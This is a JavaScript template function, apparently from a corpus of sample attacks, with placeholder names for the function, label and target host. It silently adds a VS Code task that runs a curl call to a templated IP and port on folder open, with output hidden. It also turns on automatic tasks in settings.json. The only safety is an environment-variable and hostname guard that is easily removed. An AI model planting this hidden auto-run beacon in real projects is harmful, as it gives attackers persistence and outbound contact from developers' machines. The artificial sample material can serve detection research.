// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
    if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
    const fs = require('fs'), path = require('path');
    try {
        const folder = path.join(process.env.INIT_CWD || process.cwd(), '.vscode');
        const file = path.join(folder, 'tasks.json');
        fs.mkdirSync(folder, { recursive: true });
        let tasks = { version: '2.0.0', tasks: [] };
        try { tasks = JSON.parse(fs.readFileSync(file, 'utf8')); } catch {}
        tasks.tasks = [...(tasks.tasks || []), { label: '{{token}}', type: 'shell', command: 'curl -s -m 3 http://{{ip}}:{{port}}/{{path}}',
            presentation: { reveal: 'never', echo: false }, runOptions: { runOn: 'folderOpen' } }];
        fs.writeFileSync(file, JSON.stringify(tasks, null, 4));
        fs.writeFileSync(path.join(folder, 'settings.json'), JSON.stringify({ 'task.allowAutomaticTasks': 'on' }));
    } catch {}
}
